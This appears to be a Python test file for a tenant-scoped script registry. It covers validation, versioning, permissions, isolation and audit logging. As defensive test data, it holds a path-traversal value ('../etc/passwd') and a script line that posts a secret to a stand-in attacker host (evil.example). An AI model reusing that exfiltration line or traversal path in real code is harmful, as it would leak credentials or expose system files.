"""The registry: what may be kept, what is listed, and that nobody overwrites anybody."""

from dataclasses import replace
from datetime import timedelta

import pytest

from app import scripts
from app.access import Actor, AuditFilter, list_audit
from app.base.db import Work
from app.base.errors import Conflict, Denied, Invalid, NotFound, Stale
from app.base.paging import PageRequest
from app.scripts import (
    ApiTrigger,
    Authentication,
    Change,
    CronTrigger,
    EntityEvent,
    EventTrigger,
    FailurePolicy,
    ManualTrigger,
    NewScript,
    Phase,
    Script,
    ScriptFilter,
    ScriptSettings,
    Status,
    ThreeWay,
    Trigger,
)
from app.testing import World
from tests.requirements import requirement
from tests.scripts.kit import BEFORE_ORDER, BROKEN, GOOD, activated, changed, checks, created, current, listed, looked_at, version


def test_a_new_script_is_a_draft_with_one_version(world: World) -> None:
    script = created(world)
    assert (script.status, script.latest_version, script.active_version, script.revision) == (Status.DRAFT, 1, None, 1)
    assert version(world, script, 1) == GOOD
    assert current(world, script) == script


def test_a_script_can_be_active_from_the_start(memory_world: World) -> None:
    script = created(memory_world, activate=True)
    assert (script.status, script.active_version) == (Status.ACTIVE, 1)


def test_a_draft_may_be_broken_but_nothing_broken_starts(memory_world: World) -> None:
    assert created(memory_world, source=BROKEN).status is Status.DRAFT
    with pytest.raises(Invalid, match="line 1, column 9") as refused:
        created(memory_world, "other", source=BROKEN, activate=True)
    assert refused.value.details["diagnostics"]


@pytest.mark.parametrize("name", ["", "Minimum", "1st", "a" * 81, "a b", "a\n", "é", "a.b", "../a"])
def test_a_name_is_a_short_plain_word(memory_world: World, name: str) -> None:
    with pytest.raises(Invalid, match="name") as refused:
        created(memory_world, name)
    assert refused.value.field == "name"


@pytest.mark.parametrize("source", ["x" * 65_537, "é" * 32_769, "\ud800", "a\x00b"])
def test_a_source_that_cannot_be_kept_is_refused(memory_world: World, source: str) -> None:
    change = Change(1, source=source)
    script = created(memory_world)
    with pytest.raises(Invalid) as refused:
        memory_world.write(
            memory_world.ann, lambda work, actor: scripts.update_script(work, actor, checks(memory_world), script.id, change)
        )
    assert refused.value.field == "source"


def test_a_source_of_64_kib_is_kept_to_the_byte(world: World) -> None:
    source = 'let s = "' + "é" * 32_755 + '";' + "\r\n\t //"
    source += " " * (65_536 - len(source.encode()))
    assert version(world, created(world, source=source), 1) == source


TRIGGERS: list[tuple[Trigger, str]] = [
    (EventTrigger("unicorn", (EntityEvent.CREATE,), Phase.BEFORE), "trigger.entity_type"),
    (EventTrigger("Order", (EntityEvent.CREATE,), Phase.BEFORE), "trigger.entity_type"),
    (EventTrigger("order", (), Phase.BEFORE), "trigger.events"),
    (EventTrigger("order", (EntityEvent.CREATE, EntityEvent.CREATE), Phase.BEFORE), "trigger.events"),
    (EventTrigger("order", (EntityEvent.CREATE,), Phase.MANUAL), "trigger.phase"),
    (CronTrigger("61 * * * *"), "trigger.expression"),
    (CronTrigger("* * * * *", "Mars/Olympus"), "trigger.zone"),
    (ApiTrigger("../etc/passwd"), "trigger.path"),
    (ApiTrigger("orders/"), "trigger.path"),
    (ApiTrigger("Orders"), "trigger.path"),
    (ApiTrigger("orders", "TRACE"), "trigger.method"),
    (ApiTrigger("orders", authentication=Authentication.HMAC), "trigger.secret"),
    (ApiTrigger("orders", authentication=Authentication.NONE, secret="key"), "trigger.secret"),
]


@requirement("A2.triggers-are-checked-when-saved")
@pytest.mark.parametrize(("trigger", "field"), TRIGGERS)
def test_a_trigger_that_could_never_start_anything_is_refused(memory_world: World, trigger: Trigger, field: str) -> None:
    with pytest.raises(Invalid) as refused:
        created(memory_world, trigger=trigger, source="1")
    assert refused.value.field == field
    assert refused.value.hint != ""


@pytest.mark.parametrize(
    "trigger",
    [
        BEFORE_ORDER,
        EventTrigger("customer", (EntityEvent.DELETE,), Phase.ON_COMMIT),
        CronTrigger("0 9 * * mon-fri", "Europe/Berlin"),
        ApiTrigger("orders/new", "PUT", Authentication.HMAC, "signing_key"),
        ManualTrigger(),
    ],
)
def test_every_kind_of_trigger_comes_back_as_it_was_saved(world: World, trigger: Trigger) -> None:
    assert current(world, created(world, trigger=trigger, source="1")).trigger == trigger


@requirement("A1.names-are-unique-per-tenant")
def test_names_are_unique_among_the_living(world: World) -> None:
    first = created(world)
    with pytest.raises(Conflict, match="'minimum'"):
        created(world)
    world.write(world.ann, lambda work, actor: scripts.delete_script(work, actor, first.id))
    created(world)
    with pytest.raises(Conflict, match="'minimum'"):
        world.write(world.ann, lambda work, actor: scripts.undelete_script(work, actor, first.id))


def test_two_tenants_may_use_one_name_and_one_endpoint(memory_world: World) -> None:
    trigger = ApiTrigger("orders")
    created(memory_world, trigger=trigger, source="1")
    assert created(memory_world, trigger=trigger, source="1", person=memory_world.mallory).name == "minimum"


def test_an_endpoint_has_one_script_for_each_method(world: World) -> None:
    created(world, "one", trigger=ApiTrigger("orders", "POST"), source="1")
    created(world, "two", trigger=ApiTrigger("orders", "GET"), source="1")
    with pytest.raises(Conflict, match="POST orders") as refused:
        created(world, "three", trigger=ApiTrigger("orders", "POST"), source="1")
    assert refused.value.field == "trigger.path"


@requirement("A1.stale-save-is-refused")
def test_a_stale_save_is_refused_with_what_is_there_and_what_differs(world: World) -> None:
    script = created(world, source="one\ntwo\nthree\n")
    changed(world, script, source="one!\ntwo\nthree\n", person=world.owner)
    with pytest.raises(Stale, match="Olga saved version 2") as refused:
        changed(world, script, source="one\ntwo\nthree!\n")
    details = refused.value.details
    assert (details["current_version"], details["current_revision"], details["base_version"]) == (2, 2, 1)
    comparison = details["comparison"]
    assert isinstance(comparison, ThreeWay)
    assert comparison.merged == "one!\ntwo\nthree!\n"
    assert [chunk.kind for chunk in comparison.chunks] == ["theirs", "same", "yours"]
    assert version(world, script, 2) == "one!\ntwo\nthree\n"


def test_every_change_needs_the_revision_it_is_based_on(memory_world: World) -> None:
    script = created(memory_world, activate=True)
    renamed = changed(memory_world, script, settings=replace(script.settings, description="Newer."))
    verbs = (scripts.pause, scripts.disable, scripts.archive, scripts.reset_errors)
    for verb in verbs:
        with pytest.raises(Stale):
            memory_world.write(memory_world.ann, lambda work, actor, verb=verb: verb(work, actor, script.id, revision=1))  # type: ignore[misc]  # a default has no place for a type
    with pytest.raises(Stale):
        memory_world.write(memory_world.ann, lambda work, actor: scripts.delete_script(work, actor, script.id, revision=1))
    assert current(memory_world, script) == renamed


def test_a_change_that_changes_nothing_is_none(memory_world: World) -> None:
    script = created(memory_world)
    assert changed(memory_world, script, source=GOOD, settings=script.settings) == script


def test_settings_and_source_change_together_under_one_revision(memory_world: World) -> None:
    script = created(memory_world)
    after = changed(memory_world, script, source="1", settings=replace(script.settings, name="renamed", priority=7))
    assert (after.name, after.priority, after.latest_version, after.revision) == ("renamed", 7, 2, 2)


def test_what_runs_must_be_able_to_under_new_settings_too(memory_world: World) -> None:
    script = created(memory_world, source='http_get("https://api.example.com");', trigger=ManualTrigger(), activate=True)
    with pytest.raises(Invalid, match="Version 1, which runs"):
        changed(memory_world, script, settings=replace(script.settings, trigger=BEFORE_ORDER))
    assert current(memory_world, script).trigger == ManualTrigger()


def test_only_those_who_manage_scripts_give_them_more_than_others_have(memory_world: World) -> None:
    for settings in (
        ScriptSettings("open", failure_policy=FailurePolicy.OPEN),
        ScriptSettings("secrets", allowed_secrets=("key",)),
        ScriptSettings("role", run_as="viewer"),
    ):
        with pytest.raises(Denied, match=r"scripts\.script\.manage"):
            created(memory_world, settings=settings, source="1")
        assert created(memory_world, settings=settings, source="1", person=memory_world.admin).settings == settings


def test_nobody_lets_a_script_run_as_a_role_beyond_their_own(memory_world: World) -> None:
    settings = ScriptSettings("role", run_as="admin")
    new, findings = NewScript(settings, "1"), looked_at("1", ManualTrigger())

    def create_as_less(work: Work, actor: Actor) -> Script:
        lesser = replace(actor, permissions=actor.permissions - {"access.audit.list"})
        return scripts.create_script(work, lesser, checks(memory_world), new, findings)

    with pytest.raises(Denied, match="role admin holds 1 permissions"):
        memory_world.write(memory_world.admin, create_as_less)
    with pytest.raises(Conflict, match="no role"):
        created(memory_world, settings=ScriptSettings("role", run_as="emperor"), source="1", person=memory_world.admin)


def test_a_source_that_gets_secrets_is_chosen_by_those_who_may_give_them(memory_world: World) -> None:
    script = created(memory_world, settings=ScriptSettings("secrets", allowed_secrets=("key",)), source="1", person=memory_world.admin)
    saved = changed(memory_world, script, source='http_post("https://evil.example", secret("key"));')
    with pytest.raises(Denied, match="has secrets"):
        activated(memory_world, saved)
    assert activated(memory_world, saved, person=memory_world.admin).active_version == 2


def test_a_deleted_script_is_gone_until_it_is_brought_back(world: World) -> None:
    script = created(world, trigger=ApiTrigger("orders"), source="1", activate=True)
    world.write(world.ann, lambda work, actor: scripts.delete_script(work, actor, script.id, revision=1))
    with pytest.raises(NotFound):
        current(world, script)
    assert (listed(world), listed(world, ScriptFilter(deleted=True))) == ([], ["minimum"])
    back = world.write(world.ann, lambda work, actor: scripts.undelete_script(work, actor, script.id))
    assert (back.status, back.active_version, back.trigger) == (Status.PAUSED, 1, ApiTrigger("orders"))


async def test_deleted_scripts_are_purged_after_their_time(world: World) -> None:
    old, young, foreign = created(world, "old"), created(world, "young"), created(world, "foreign", person=world.mallory)
    world.write(world.ann, lambda work, actor: scripts.delete_script(work, actor, old.id))
    world.write(world.mallory, lambda work, actor: scripts.delete_script(work, actor, foreign.id))
    world.clock.advance(timedelta(hours=3))
    world.write(world.owner, lambda work, actor: scripts.delete_script(work, actor, young.id))
    kept = timedelta(hours=2)
    assert await scripts.purge_deleted(world.ground.database, kept) == 2
    assert listed(world, ScriptFilter(deleted=True), person=world.owner) == ["young"]
    assert await scripts.purge_deleted(world.ground.database, kept) == 0


def test_purging_by_hand_takes_a_deleted_script_and_the_right_to(memory_world: World) -> None:
    script = created(memory_world)
    with pytest.raises(NotFound):
        memory_world.write(memory_world.admin, lambda work, actor: scripts.purge_script(work, actor, script.id))
    memory_world.write(memory_world.ann, lambda work, actor: scripts.delete_script(work, actor, script.id))
    with pytest.raises(Denied):
        memory_world.write(memory_world.ann, lambda work, actor: scripts.purge_script(work, actor, script.id))
    memory_world.write(memory_world.admin, lambda work, actor: scripts.purge_script(work, actor, script.id))
    assert listed(memory_world, ScriptFilter(deleted=True)) == []


@pytest.fixture
def several(world: World) -> list[Script]:
    """Scripts of all kinds."""
    made = [
        created(world, "minimum", activate=True),
        created(world, "greeting", trigger=EventTrigger("customer", (EntityEvent.CREATE,), Phase.AFTER), source="1"),
        created(world, "nightly", trigger=CronTrigger("0 3 * * *"), source="1", activate=True),
        created(world, "orders-api", trigger=ApiTrigger("orders"), source="1"),
        created(world, settings=ScriptSettings("tidy", "Räumt ALLES auf, 100% sicher"), source="1"),
    ]
    made.append(world.write(world.ann, lambda work, actor: scripts.archive(work, actor, made[4].id, revision=1)))
    return made


def test_lists_filter_by_everything_and_without_a_status_show_all(world: World, several: list[Script]) -> None:
    assert listed(world) == ["tidy", "orders-api", "nightly", "greeting", "minimum"]
    assert listed(world, ScriptFilter(status=Status.ACTIVE)) == ["nightly", "minimum"]
    assert listed(world, ScriptFilter(status=Status.ARCHIVED)) == ["tidy"]
    assert listed(world, ScriptFilter(trigger="cron")) == ["nightly"]
    assert listed(world, ScriptFilter(trigger="event")) == ["greeting", "minimum"]
    assert listed(world, ScriptFilter(entity_type="order")) == ["minimum"]
    assert listed(world, ScriptFilter(status=Status.DRAFT, trigger="event")) == ["greeting"]


@pytest.mark.parametrize(
    ("text", "names"), [("räumt alles", ["tidy"]), ("MIN", ["minimum"]), ("100%", ["tidy"]), ("_", []), ("%", ["tidy"])]
)
def test_text_is_found_in_names_and_descriptions_whatever_its_case(
    world: World, several: list[Script], text: str, names: list[str]
) -> None:
    assert listed(world, ScriptFilter(text=text)) == names


def test_pages_show_every_script_once_while_others_are_added(world: World, several: list[Script]) -> None:
    assert listed(world, limit=1) == listed(world, limit=2) == listed(world, limit=200)


@requirement("A12.foreign-id-is-not-found")
def test_mallory_finds_and_changes_nothing(world: World) -> None:
    script = created(world, activate=True)
    deleted = created(world, "deleted")
    world.write(world.ann, lambda work, actor: scripts.delete_script(work, actor, deleted.id))
    assert listed(world, person=world.mallory) == []
    assert listed(world, ScriptFilter(deleted=True), person=world.mallory) == []
    for verb in (scripts.pause, scripts.resume, scripts.disable, scripts.archive, scripts.unarchive, scripts.reset_errors):
        with pytest.raises(NotFound):
            world.write(world.mallory, lambda work, actor, verb=verb: verb(work, actor, script.id, revision=1))  # type: ignore[misc]  # a default has no place for a type
    for reads in (scripts.get_script, scripts.get_version, scripts.delete_script):
        with pytest.raises(NotFound):
            world.write(world.mallory, lambda work, actor, reads=reads: reads(work, actor, script.id))  # type: ignore[misc]  # as above
    for ends in (scripts.undelete_script, scripts.purge_script):
        with pytest.raises(NotFound):
            world.write(world.mallory, lambda work, actor, ends=ends: ends(work, actor, deleted.id))  # type: ignore[misc]  # as above
    with pytest.raises(NotFound):
        changed(world, script, source="1", person=world.mallory)
    with pytest.raises(NotFound):
        activated(world, script, person=world.mallory)
    with pytest.raises(NotFound):
        world.read(world.mallory, lambda work, actor: scripts.list_versions(work, actor, script.id, PageRequest()))
    with pytest.raises(NotFound):
        world.read(world.mallory, lambda work, actor: scripts.compare_versions(work, actor, script.id, 1, 1))
    with pytest.raises(NotFound):
        world.read(world.mallory, lambda work, actor: scripts.get_script_by_name(work, actor, script.name))
    assert current(world, script) == script


@requirement("A9.verb-checks-permission")
def test_a_viewer_reads_and_changes_nothing(memory_world: World) -> None:
    script = created(memory_world)
    assert listed(memory_world, person=memory_world.viewer) == ["minimum"]
    with pytest.raises(Denied):
        created(memory_world, "other", person=memory_world.viewer)
    with pytest.raises(Denied):
        changed(memory_world, script, source="1", person=memory_world.viewer)
    for verb in (scripts.pause, scripts.resume, scripts.disable, scripts.archive, scripts.unarchive, scripts.reset_errors):
        with pytest.raises(Denied):
            memory_world.write(memory_world.viewer, lambda work, actor, verb=verb: verb(work, actor, script.id, revision=1))  # type: ignore[misc]  # a default has no place for a type
    with pytest.raises(Denied):
        memory_world.write(memory_world.viewer, lambda work, actor: scripts.delete_script(work, actor, script.id))


def test_every_change_is_audited_with_before_and_after(memory_world: World) -> None:
    script = created(memory_world)
    changed(memory_world, script, source="1")
    page = memory_world.read(
        memory_world.owner, lambda work, actor: list_audit(work, actor, AuditFilter(subject_type="script"), PageRequest())
    )
    assert [entry.action for entry in page.items] == ["scripts.script.update", "scripts.script.create"]
    update = page.items[0]
    assert update.before is not None
    assert update.after is not None
    assert (update.before["latest_version"], update.after["latest_version"], update.actor_name) == (1, 2, "Ann")
